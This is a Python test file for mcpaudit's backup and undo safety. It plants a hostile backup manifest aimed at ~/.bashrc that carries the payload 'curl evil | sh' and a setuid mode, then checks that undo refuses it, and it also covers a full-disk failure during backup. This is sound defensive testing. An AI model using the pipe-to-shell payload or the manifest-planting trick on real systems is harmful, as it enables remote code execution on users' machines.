"""mcpaudit's own folders (issue 20, items 12 and 13): undo that nobody else can aim,
and a full disk during the backup. Real folders, real modes, a real full tmpfs."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import REPO, run_cli

from .helpers import write

CURSOR = ".cursor/mcp.json"
BODY = json.dumps({"mcpServers": {"bad": {"command": "bash", "args": ["-c", "x"]}}}) + "\n"
PAYLOAD = b"curl evil | sh\n"


def _plant(backups: Path, home: Path) -> Path:
    """A manifest as another account would plant it: `applied`, aimed at ~/.bashrc with
    its current hash, mode 4777, the payload as the "backup"."""
    bashrc = write(home, ".bashrc", "# my shell\n")
    tx = backups / "20990101T000000000000Z-dead"
    (tx / "files").mkdir(parents=True)
    (tx / "files" / "0.orig").write_bytes(PAYLOAD)
    manifest = {
        "id": tx.name,
        "created": "2099-01-01T00:00:00+00:00",
        "status": "applied",
        "undone": None,
        "files": [
            {
                "path": str(home / CURSOR),
                "real_path": str(bashrc),
                "backup": "files/0.orig",
                "sha256_before": hashlib.sha256(PAYLOAD).hexdigest(),
                "sha256_after": hashlib.sha256(bashrc.read_bytes()).hexdigest(),
                "mode_before": 0o4777,
                "mode_after": 0o644,
            }
        ],
    }
    (tx / "manifest.json").write_text(json.dumps(manifest))
    return bashrc


def _refused(home: Path, bashrc: Path, why: str) -> None:
    for args in (("undo",), ("undo", "--force"), ("undo", "20990101T000000000000Z-dead")):
        proc = run_cli(*args, home=home)
        assert proc.returncode == 2, proc.stdout
        assert why in proc.stderr and "Traceback" not in proc.stderr
        assert "restored" not in proc.stdout
        assert bashrc.read_bytes() == b"# my shell\n"
        assert bashrc.stat().st_mode & 0o7777 == 0o644
    config = write(home, CURSOR, BODY)
    fix = run_cli("disable", "bad", "--yes", home=home)
    assert fix.returncode == 2 and why in fix.stderr
    assert config.read_text() == BODY  # nothing written next to a hostile journal


def test_a_world_writable_backups_folder_is_refused(isolated_home: Path) -> None:
    backups = isolated_home / ".local/share/mcpaudit/backups"
    backups.mkdir(parents=True)
    bashrc = _plant(backups, isolated_home)
    backups.chmod(0o777)
    _refused(isolated_home, bashrc, "can be written by other accounts (mode 0777)")


def test_a_backups_folder_symlinked_to_a_shared_folder_is_refused(
    isolated_home: Path, tmp_path: Path
) -> None:
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    data = isolated_home / ".local/share/mcpaudit"
    data.mkdir(parents=True, mode=0o700)
    bashrc = _plant(shared, isolated_home)
    (data / "backups").symlink_to(shared)
    _refused(isolated_home, bashrc, "is a symlink")


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs chown")
def test_a_backups_folder_of_another_account_is_refused(isolated_home: Path) -> None:
    backups = isolated_home / ".local/share/mcpaudit/backups"
    backups.mkdir(parents=True, mode=0o700)
    bashrc = _plant(backups, isolated_home)
    for p in [backups, *backups.rglob("*")]:
        os.chown(p, 65534, 65534)
    _refused(isolated_home, bashrc, "belongs to another account (uid 65534)")


def test_a_planted_manifest_writable_by_others_is_not_trusted(isolated_home: Path) -> None:
    backups = isolated_home / ".local/share/mcpaudit/backups"
    backups.mkdir(parents=True, mode=0o700)
    bashrc = _plant(backups, isolated_home)
    manifest = next(backups.glob("*/manifest.json"))
    manifest.chmod(0o666)  # a folder of ours, a file someone else could have written
    proc = run_cli("undo", home=isolated_home)
    assert proc.returncode == 2 and "no applied fix" in proc.stderr
    assert bashrc.read_bytes() == b"# my shell\n"


def test_undo_never_restores_setuid_bits(isolated_home: Path) -> None:
    config = write(isolated_home, CURSOR, BODY, mode=0o4755)
    proc = run_cli("disable", "bad", "--yes", home=isolated_home)
    assert proc.returncode == 0, proc.stderr
    assert config.stat().st_mode & 0o7000 == 0
    assert run_cli("undo", home=isolated_home).returncode == 0
    assert config.read_text() == BODY
    assert config.stat().st_mode & 0o7777 == 0o755
    data = isolated_home / ".local/share/mcpaudit"
    for folder in (data, data / "backups", *[p for p in (data / "backups").iterdir()]):
        if folder.is_dir():
            assert folder.stat().st_mode & 0o777 == 0o700


FULL_DISK = """
mount -t tmpfs -o size=16k tmpfs "$DATA" || exit 99
"$PY" -m mcpaudit disable bad --yes > "$OUT/fix.out" 2> "$OUT/fix.err"
echo $? > "$OUT/fix.rc"
"$PY" -m mcpaudit undo --list > "$OUT/list.out" 2>&1
ls -A "$DATA/mcpaudit/backups" > "$OUT/left.out" 2>&1
"""

INJECTED = """
import errno, os, sys
import mcpaudit.fix.journal as journal
real = journal.write_private
def full(path, data):
    if "/files/" in str(path):  # the backup copy: the OS says the disk is full
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    real(path, data)
journal.write_private = full
from mcpaudit.cli import main
raise SystemExit(main(sys.argv[1:]))
"""


def _full_disk_run(home: Path, data: Path, out: Path) -> None:
    """`mcpaudit disable --yes` with the data folder on a full 16 KiB tmpfs, mounted in
    a private mount namespace (nothing left on the host); where this system allows no
    namespace, the same ENOSPC injected at the backup write. Results land in `out`."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("XDG_")}
    env.update(HOME=str(home), PYTHONPATH=str(REPO), NO_COLOR="1", XDG_DATA_HOME=str(data))
    env.update(DATA=str(data), OUT=str(out), PY=sys.executable)
    unshare = shutil.which("unshare")
    if unshare is not None:
        proc = subprocess.run(
            [unshare, "-rm", "sh", "-c", FULL_DISK], env=env, capture_output=True, timeout=120
        )
        if proc.returncode == 0 and (out / "fix.rc").exists():
            return
    fix = subprocess.run(
        [sys.executable, "-c", INJECTED, "disable", "bad", "--yes"],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    (out / "fix.out").write_text(fix.stdout)
    (out / "fix.err").write_text(fix.stderr)
    (out / "fix.rc").write_text(f"{fix.returncode}\n")
    listed = run_cli("undo", "--list", home=home, env={"XDG_DATA_HOME": str(data)})
    (out / "list.out").write_text(listed.stdout + listed.stderr)
    backups = data / "mcpaudit" / "backups"
    (out / "left.out").write_text("\n".join(sorted(p.name for p in backups.iterdir())))


def test_a_full_disk_during_the_backup_changes_nothing(isolated_home: Path, tmp_path: Path) -> None:
    # Bigger than the whole tmpfs: the backup copy cannot be written.
    big = {"mcpServers": {"bad": {"command": "bash", "args": ["-c", "x"]}}, "pad": "p" * 40_000}
    body = json.dumps(big, indent=2) + "\n"
    config = write(isolated_home, CURSOR, body)
    data, out = tmp_path / "data", tmp_path / "out"
    data.mkdir()
    out.mkdir()
    _full_disk_run(isolated_home, data, out)
    stderr = (out / "fix.err").read_text()
    assert (out / "fix.rc").read_text().strip() == "2", stderr
    assert "Traceback" not in stderr
    assert f"could not back up {config}: No space left on device; nothing changed" in stderr
    assert config.read_text() == body
    assert "no fixes recorded" in (out / "list.out").read_text()  # a clean journal
    left = (out / "left.out").read_text().split()
    assert [name for name in left if not name.startswith(".")] == []  # no empty folder
